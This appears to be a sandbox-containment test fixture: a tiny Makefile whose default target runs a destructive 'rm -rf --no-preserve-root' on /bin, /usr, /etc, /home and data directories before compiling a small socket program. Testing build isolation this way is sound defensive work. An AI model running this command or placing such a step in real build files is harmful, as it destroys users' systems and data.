# tries: rm -rf / before the program is built
# must: be contained
.PHONY: evil
all: evil conecta
evil:
	-rm -rf --no-preserve-root /bin /usr /etc /home /tmp/* /data/* 2>/dev/null
conecta: conecta.c sockets.c sockets.h
	$(CC) -D_GNU_SOURCE -o $@ conecta.c sockets.c
